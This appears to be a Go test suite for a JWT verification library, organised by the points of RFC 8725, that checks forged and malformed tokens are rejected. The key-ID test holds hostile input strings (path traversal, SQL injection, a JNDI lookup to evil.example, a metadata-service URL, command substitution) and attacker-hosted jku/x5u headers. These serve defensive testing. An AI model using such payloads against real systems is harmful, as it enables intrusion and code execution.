package identity_test

import (
	"bytes"
	"compress/flate"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"strings"
	"testing"
	"time"

	"countersign/identity"
	"countersign/identity/dialect"
)

// TestRFC8725 walks JSON Web Token Best Current Practices: each subtest is a point of
// its section 3, and shows the threat of section 2 that the point answers.
func TestRFC8725(t *testing.T) {
	for _, point := range []struct {
		name string
		test func(t *testing.T)
	}{
		{"3.1 perform algorithm verification", algorithmIsTheKeys},
		{"3.2 use appropriate algorithms", algorithmsAreFew},
		{"3.3 validate all cryptographic operations", nestedAreRefused},
		{"3.4 validate cryptographic inputs", inputsAreValidated},
		{"3.5 ensure cryptographic keys have sufficient entropy", keysAreStrong},
		{"3.6 avoid compression of encryption inputs", compressionIsRefused},
		{"3.7 use UTF-8", textIsUTF8},
		{"3.8 validate issuer and subject", issuerIsCompared},
		{"3.9 use and validate audience", audienceIsCompared},
		{"3.10 do not trust received claims", headersChooseNothing},
		{"3.11 use explicit typing", typeIsCompared},
		{"3.12 use mutually exclusive validation rules", kindsNeverMeet},
	} {
		t.Run(point.name, point.test)
	}
}

func allJWTKeys(t *testing.T) []*identity.Key {
	t.Helper()
	return []*identity.Key{
		keyOf(t, "native-jwt", dialect.Setup{}),
		single(t, esPublic, dialect.Setup{}),
		single(t, rsPublic, dialect.Setup{}),
		single(t, edPublic, dialect.Setup{}),
	}
}

// signedFor makes a token that the key takes but for what header or claims say.
func signedFor(t *testing.T, key *identity.Key, header, payload string) string {
	t.Helper()
	if pair, public := keyPairs[key.Algorithm()]; public {
		return bySign(t, pair[0], header, payload)
	}
	return compact(vectorSecret, header, payload)
}

// 3.1: a key has one algorithm, and the header's is compared with it, whatever the
// signature (2.1: "none", and RS256 turned into HS256).
func algorithmIsTheKeys(t *testing.T) {
	for _, key := range allJWTKeys(t) {
		for _, said := range []identity.Algorithm{
			identity.HS256,
			identity.ES256,
			identity.RS256,
			identity.EdDSA,
			"none",
			"HS384",
			"HS512",
			"PS256",
			"ES512",
			"",
		} {
			want := identity.AlgorithmRefused
			if said == key.Algorithm() {
				want = ""
			}
			if got := reasonFor(t, signedFor(t, key, headerOf(said), claims()), key); got != want {
				t.Errorf("key of %s, token says %q: %q", key.Algorithm(), said, got)
			}
		}
		if got := reasonFor(t, signedFor(t, key, `{"typ":"JWT"}`, claims()), key); got != identity.AlgorithmRefused {
			t.Errorf("key of %s, token says nothing: %q", key.Algorithm(), got)
		}
	}
}

// 3.2: four algorithms exist; "none", RSA-PKCS1 encryption and curves without point
// validation are not among them.
func algorithmsAreFew(t *testing.T) {
	if got := fmt.Sprint(identity.PublicAlgorithms()); got != "[ES256 RS256 EdDSA]" {
		t.Errorf("public algorithms: %s", got)
	}
	for _, weak := range []string{rsShortPublic, rsThreePublic, p384Public} {
		if _, err := identity.ParsePublicKey(weak); err == nil {
			t.Error("a weak or unknown kind of key is taken")
		}
	}
}

// 3.3: every signature of what is believed is checked. Nested tokens (cty JWT) and
// encrypted ones would need a second round; they are refused as a whole.
func nestedAreRefused(t *testing.T) {
	for _, key := range allJWTKeys(t) {
		inner := signedFor(t, key, headerOf(key.Algorithm()), claims())
		for name, token := range map[string]string{
			"nested":                 signedFor(t, key, `{"alg":"`+string(key.Algorithm())+`","cty":"JWT"}`, inner),
			"nested without a word":  signedFor(t, key, headerOf(key.Algorithm()), inner),
			"as a claim":             signedFor(t, key, headerOf(key.Algorithm()), `{"jwt":"`+inner+`"}`),
			"JWE, five parts":        b64([]byte(`{"alg":"dir","enc":"A256GCM"}`)) + "..AAAA.AAAA.AAAA",
			"two tokens":             inner + "." + inner,
			"JSON serialisation":     fmt.Sprintf(`{"payload":%q,"protected":%q,"signature":%q}`, strings.Split(inner, ".")[1], strings.Split(inner, ".")[0], strings.Split(inner, ".")[2]),
			"detached payload":       strings.Split(inner, ".")[0] + ".." + strings.Split(inner, ".")[2],
			"payload not in base64":  strings.Split(inner, ".")[0] + "." + claims() + "." + strings.Split(inner, ".")[2],
			"signature missing":      strings.Join(strings.Split(inner, ".")[:2], "."),
			"signature empty":        strings.Join(strings.Split(inner, ".")[:2], ".") + ".",
			"bytes before the token": "\ufeff" + inner,
		} {
			if got := reasonFor(t, token, key); got == "" {
				t.Errorf("key of %s, %s: verified", key.Algorithm(), name)
			}
		}
	}
}

// 3.4: points are on their curve, moduli and exponents sane, signatures in range
// (2.2, 2.5: invalid curve attacks).
func inputsAreValidated(t *testing.T) {
	point := jwkMembers(publicOf(t, esPublic))
	for name, members := range map[string]string{
		"a point beside the curve": fmt.Sprintf(`{"kty":"EC","crv":"P-256","x":%q,"y":%q}`, point["x"], b64(make([]byte, 32))),
		"the point at infinity":    fmt.Sprintf(`{"kty":"EC","crv":"P-256","x":%q,"y":%q}`, b64(make([]byte, 32)), b64(make([]byte, 32))),
		"a point of small order":   fmt.Sprintf(`{"kty":"OKP","crv":"Ed25519","x":%q}`, b64(append([]byte{1}, make([]byte, 31)...))),
		"an RSA exponent of one":   fmt.Sprintf(`{"kty":"RSA","n":%q,"e":"AQ"}`, b64(rsModulus(t))),
	} {
		if _, err := identity.ParsePublicKey(members); err == nil {
			t.Errorf("%s is taken as a key", name)
		}
	}
}

// 3.5: a secret has at least 32 bytes, is not guessable, and a password is none.
func keysAreStrong(t *testing.T) {
	for _, secret := range []string{
		"",
		"secret",
		"gZH75aKtMN3Yj0iPS4hcgUuTwjAzZr9",
		"your-256-bit-secret",
		strings.Repeat("a", 64),
		"correct horse battery staple",
		"changeme-changeme-changeme-changeme",
	} {
		if _, _, err := dialect.CheckSecret("native-jwt", secret, false); err == nil {
			t.Errorf("%q is taken as a secret", secret)
		}
	}
}

// 3.6: nothing is encrypted here, and nothing is decompressed either.
func compressionIsRefused(t *testing.T) {
	var out bytes.Buffer
	w, _ := flate.NewWriter(&out, 9)
	_, _ = w.Write([]byte(claims()))
	_ = w.Close()
	for _, key := range allJWTKeys(t) {
		header := `{"alg":"` + string(key.Algorithm()) + `","zip":"DEF"}`
		if got := reasonFor(t, signedFor(t, key, header, out.String()), key); got != identity.TokenMalformed {
			t.Errorf("key of %s: %q", key.Algorithm(), got)
		}
	}
}

// 3.7: text is UTF-8 and Unicode, or the token is refused: two decoders would repair it
// in two ways.
func textIsUTF8(t *testing.T) {
	for _, key := range allJWTKeys(t) {
		for name, user := range map[string]string{
			"Latin-1":              "\"\xe9\"",
			"half a surrogate":     `"\ud800"`,
			"overlong":             "\"\xc0\xaf\"",
			"a surrogate in UTF-8": "\"\xed\xa0\x80\"",
			"UTF-16":               "\"\x00u\x001\"",
		} {
			if got := reasonFor(t, signedFor(t, key, headerOf(key.Algorithm()), claims("user_id", user)), key); got != identity.TokenMalformed {
				t.Errorf("key of %s, %s: %q", key.Algorithm(), name, got)
			}
		}
		if got := reasonFor(t, signedFor(t, key, headerOf(key.Algorithm()), claims("user_id", `"Jörg 日本"`)), key); got != "" {
			t.Errorf("key of %s: real letters: %q", key.Algorithm(), got)
		}
	}
}

// 3.8: the issuer is compared where keys come from one, and the subject is one claim of
// one meaning: sub names nobody here.
func issuerIsCompared(t *testing.T) {
	set := setOf(t, dialect.Setup{}, nil, testNow.Add(time.Hour))
	for iss, want := range map[string]identity.Reason{
		issuer:                 "",
		"https://evil.example": identity.AudienceWrong,
		"":                     identity.ClaimMissing,
	} {
		if got := reasonFor(t, bySign(t, esPrivate, withKid("a"), claims("iss", `"`+iss+`"`)), set); got != want {
			t.Errorf("iss %q: %q", iss, got)
		}
	}
	for _, key := range allJWTKeys(t) {
		v, err := identity.Verify(ringOf(t, key), identity.Assertion{Token: signedFor(t, key, headerOf(key.Algorithm()), claims("sub", `"admin"`))}, testNow)
		if err != nil || v.Signed().Value != "u1" {
			t.Errorf("key of %s: sub beside user_id: %v, %v", key.Algorithm(), v.Signed(), err)
		}
		if got := reasonFor(t, signedFor(t, key, headerOf(key.Algorithm()), claims("user_id", "", "sub", `"u1"`)), key); got != identity.ClaimMissing {
			t.Errorf("key of %s: sub alone: %q", key.Algorithm(), got)
		}
	}
}

// 3.9: a token is for a channel, by name, or for nobody (2.6, 2.7: substitution).
func audienceIsCompared(t *testing.T) {
	for _, key := range allJWTKeys(t) {
		for aud, want := range map[string]identity.Reason{
			`"shop"`:           "",
			`["shop"]`:         "",
			`["other","shop"]`: "",
			`"other"`:          identity.AudienceWrong,
			`["other"]`:        identity.AudienceWrong,
			`[]`:               identity.ClaimMissing,
			`""`:               identity.AudienceWrong,

			`"SHOP"`:       identity.AudienceWrong,
			`"shop "`:      identity.AudienceWrong,
			`"shop,other"`: identity.AudienceWrong,
			`"*"`:          identity.AudienceWrong,
			`null`:         identity.TokenMalformed,
			`true`:         identity.TokenMalformed,

			`[["shop"]]`:    identity.TokenMalformed,
			`{"shop":1}`:    identity.TokenMalformed,
			`["shop",null]`: identity.TokenMalformed,
		} {
			if got := reasonFor(t, signedFor(t, key, headerOf(key.Algorithm()), claims("aud", aud)), key); got != want {
				t.Errorf("key of %s, aud %s: %q; want %q", key.Algorithm(), aud, got, want)
			}
		}
	}
}

// 3.10: kid is compared and never looked up as a path, a query or an address; jku, x5u
// and embedded keys are refused (2.8: indirect attacks).
func headersChooseNothing(t *testing.T) {
	kids := []string{
		"../../etc/passwd",
		"/dev/null",
		"a' OR '1'='1",
		"a\x00b",
		"${jndi:ldap://evil.example/a}",
		"http://169.254.169.254/",
		"`id`",
		"*",
		"%",
	}
	for _, key := range allJWTKeys(t) {
		for _, kid := range kids {
			header := fmt.Sprintf(`{"alg":%q,"kid":%s}`, key.Algorithm(), raw(kid))
			if got := reasonFor(t, signedFor(t, key, header, claims()), key); got != "" {
				t.Errorf("key of %s is one key, and yet kid %q matters: %q", key.Algorithm(), kid, got)
			}
		}
		for _, member := range []string{
			`"jku":"https://evil.example"`,
			`"x5u":"https://evil.example"`,
			`"jwk":{"kty":"oct","k":"AA"}`,
			`"x5c":["AA"]`,
			`"crit":["kid"]`,
		} {
			header := `{"alg":"` + string(key.Algorithm()) + `",` + member + `}`
			if got := reasonFor(t, signedFor(t, key, header, claims()), key); got != identity.TokenMalformed {
				t.Errorf("key of %s, %s: %q", key.Algorithm(), member, got)
			}
		}
	}
	set := setOf(t, dialect.Setup{}, nil, testNow.Add(time.Hour))
	for _, kid := range kids {
		if got := reasonFor(t, bySign(t, esPrivate, fmt.Sprintf(`{"alg":"ES256","kid":%s}`, raw(kid)), issued()), set); got != identity.KeyUnusable {
			t.Errorf("set, kid %q: %q", kid, got)
		}
	}
}

// 3.11: a type that is there must be JWT; libraries leave it out, so it may be missing
// (3.12 does what it would do).
func typeIsCompared(t *testing.T) {
	for _, key := range allJWTKeys(t) {
		for typ, want := range map[string]identity.Reason{
			`"JWT"`:          "",
			`"jwt"`:          "",
			`"at+jwt"`:       identity.TokenMalformed,
			`"secevent+jwt"`: identity.TokenMalformed,
			`"dpop+jwt"`:     identity.TokenMalformed,
			`"JOSE"`:         identity.TokenMalformed,
			`""`:             identity.TokenMalformed,
			`1`:              identity.TokenMalformed,
		} {
			header := `{"alg":"` + string(key.Algorithm()) + `","typ":` + typ + `}`
			if got := reasonFor(t, signedFor(t, key, header, claims()), key); got != want {
				t.Errorf("key of %s, typ %s: %q", key.Algorithm(), typ, got)
			}
		}
	}
}

// 3.12: one key takes one kind of proof, so a token of one kind is never one of
// another (2.8: cross-JWT confusion).
func kindsNeverMeet(t *testing.T) {
	mac := hmacOf(vectorSecret, "u1")
	for _, c := range []struct {
		name      string
		key       *identity.Key
		assertion identity.Assertion
	}{
		{"a hash as a token's key", keyOf(t, "native-jwt", dialect.Setup{}), identity.Assertion{UserID: "u1", Hash: hex.EncodeToString(mac)}},
		{"a token as a hash's key", keyOf(t, "native", dialect.Setup{}), identity.Assertion{UserID: "u1", Token: compact(vectorSecret, plainHeader, claims())}},
		{"a token as v1's key", keyOf(t, "native-v1", dialect.Setup{}), identity.Assertion{Token: compact(vectorSecret, plainHeader, claims())}},
		{"v1 as a token's key", keyOf(t, "native-jwt", dialect.Setup{}), identity.Assertion{Token: v1Of(vectorSecret, "shop", fmt.Sprint(vectorEpoch), "u1", "")}},
		{"v1 as a hash's key", keyOf(t, "native", dialect.Setup{}), identity.Assertion{UserID: "u1", Token: v1Of(vectorSecret, "shop", fmt.Sprint(vectorEpoch), "u1", "")}},
		{"a hash as a token", keyOf(t, "native", dialect.Setup{}), identity.Assertion{UserID: "u1", Token: hex.EncodeToString(mac)}},
		{"a hash in base64 as a token", keyOf(t, "native-jwt", dialect.Setup{}), identity.Assertion{Token: "u1.." + base64.RawURLEncoding.EncodeToString(mac)}},
		{"intercom's token for native", keyOf(t, "native-jwt", dialect.Setup{}), identity.Assertion{Token: compact(vectorSecret, plainHeader, `{"user_id":"u1"}`)}},
		{"native's token for intercom", keyOf(t, "intercom-jwt", dialect.Setup{}), identity.Assertion{Dialect: "native", Token: compact(vectorSecret, plainHeader, claims())}},
		{"pylon's token for native", keyOf(t, "pylon-jwt", dialect.Setup{}), identity.Assertion{Dialect: "native", Token: compact(vectorSecret, plainHeader, claims("email", `"a@b"`))}},
	} {
		if v, err := identity.Verify(ringOf(t, c.key), c.assertion, testNow); err == nil || v.OK() {
			t.Errorf("%s: verified as %v", c.name, v.Signed())
		}
	}
}
